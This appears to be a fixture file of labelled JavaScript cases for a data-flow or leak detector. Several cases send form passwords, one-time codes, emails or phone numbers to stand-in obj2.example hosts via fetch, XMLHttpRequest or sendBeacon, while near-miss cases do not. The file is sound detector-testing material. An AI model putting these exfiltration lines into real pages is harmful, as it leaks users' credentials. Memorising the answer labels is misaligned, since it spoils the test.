//# other-property-clean
// no flow
// why: only the property `page` is sent
const rec = { mail: document.querySelector('input[type=email]').value, page: 'home' };
fetch('https://prop0.obj2.example/', { method: 'POST', body: rec.page });

//# property-tainted
// flow: email > prop.obj2.example via fetch
const rec1 = { mail: document.querySelector('input[type=email]').value, page: 'home' };
fetch('https://prop.obj2.example/', { method: 'POST', body: rec1.mail });

//# rest-without-password
// flow: email > rest.obj2.example via fetch
// why: near miss: the password was taken out by destructuring
const all = {
  mail: document.querySelector('input[type=email]').value,
  pw: document.querySelector('input[type=password]').value,
};
const { pw, ...others } = all;
fetch('https://rest.obj2.example/', { method: 'POST', body: JSON.stringify(others) });

//# rest-leaves-fixed-only
// no flow
// why: the only tainted property was taken out
const { tel, ...fixed } = { tel: document.querySelector('input[type=tel]').value, v: 1 };
fetch('https://rest0.obj2.example/', { method: 'POST', body: JSON.stringify(fixed) });

//# spread-copy
// flow: phone > spr.obj2.example via fetch
const base = { tel: document.querySelector('input[type=tel]').value };
const copy = { ...base, v: 2 };
fetch('https://spr.obj2.example/', { method: 'POST', body: JSON.stringify(copy) });

//# spread-overridden
// no flow
// why: the later property replaces the spread one
const base0 = { tel: document.querySelector('input[type=tel]').value };
const copy0 = { ...base0, tel: 'hidden' };
fetch('https://spr0.obj2.example/', { method: 'POST', body: JSON.stringify(copy0) });

//# computed-key
// flow: username > key.obj2.example via xhr
const k = 'us' + 'er';
const o = {};
o[k] = document.querySelector('input[autocomplete=username]').value;
const x = new XMLHttpRequest();
x.open('POST', 'https://key.obj2.example/');
x.send(o.user);

//# computed-key-other
// no flow
// why: the key written is `user`, the key read is `users`
const k0 = 'us' + 'er';
const o0 = { users: 'none' };
o0[k0] = document.querySelector('input[autocomplete=username]').value;
fetch('https://key0.obj2.example/', { method: 'POST', body: o0.users });

//# array-second-element
// flow: otp > arr.obj2.example via fetch
const parts = ['v1', document.querySelector('input[autocomplete=one-time-code]').value];
const [, second] = parts;
fetch('https://arr.obj2.example/', { method: 'POST', body: second });

//# array-first-element
// no flow
// why: the first element is fixed
const parts0 = ['v1', document.querySelector('input[autocomplete=one-time-code]').value];
const [first] = parts0;
fetch('https://arr0.obj2.example/', { method: 'POST', body: first });

//# map-get
// flow: email > map.obj2.example via fetch
const m = new Map([['mail', document.querySelector('input[type=email]').value], ['v', '1']]);
fetch('https://map.obj2.example/', { method: 'POST', body: m.get('mail') });

//# map-get-other
// no flow
// why: the entry `v` is fixed
const m0 = new Map([['mail', document.querySelector('input[type=email]').value], ['v', '1']]);
fetch('https://map0.obj2.example/', { method: 'POST', body: m0.get('v') });

//# alias-of-object
// flow: password > ali.obj2.example via fetch
const a = {};
const b = a;
b.pw = document.querySelector('input[type=password]').value;
fetch('https://ali.obj2.example/', { method: 'POST', body: JSON.stringify(a) });

//# copy-before-write
// no flow
// why: the copy was made before the password was put into the original
const a0 = { v: 1 };
const b0 = { ...a0 };
a0.pw = document.querySelector('input[type=password]').value;
fetch('https://ali0.obj2.example/', { method: 'POST', body: JSON.stringify(b0) });

//# getter
// flow: identifier > get.obj2.example via beacon
const store = { get uid() { return localStorage.getItem('uid'); } };
navigator.sendBeacon('https://get.obj2.example/', store.uid);

//# object-keys-only
// no flow
// why: the names of the properties, not their values
const form = { email: document.querySelector('input[type=email]').value };
navigator.sendBeacon('https://keys0.obj2.example/', Object.keys(form).join(','));

//# set-has
// no flow
// why: has gives a boolean
const s0 = new Set([document.querySelector('input[type=tel]').value]);
fetch('https://set0.obj2.example/?has=' + s0.has('112'));

//# symbol-key-serialised
// no flow
// why: JSON.stringify leaves out keys that are symbols
const sym = Symbol('pw');
const so = { [sym]: document.querySelector('input[type=password]').value, v: 1 };
fetch('https://sym0.obj2.example/', { method: 'POST', body: JSON.stringify(so) });
